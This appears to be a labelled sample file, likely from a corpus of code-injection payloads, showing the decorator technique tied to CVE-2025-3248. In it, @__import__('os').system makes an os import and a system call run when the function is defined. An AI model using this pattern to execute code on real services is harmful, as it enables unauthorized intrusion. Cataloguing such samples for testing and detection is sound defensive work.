# class: lineage
# mechanism: CVE-2025-3248
# how: CVE-2025-3248: code in a decorator
# reaches: built-in __import__
@__import__("os").system
def f(): pass
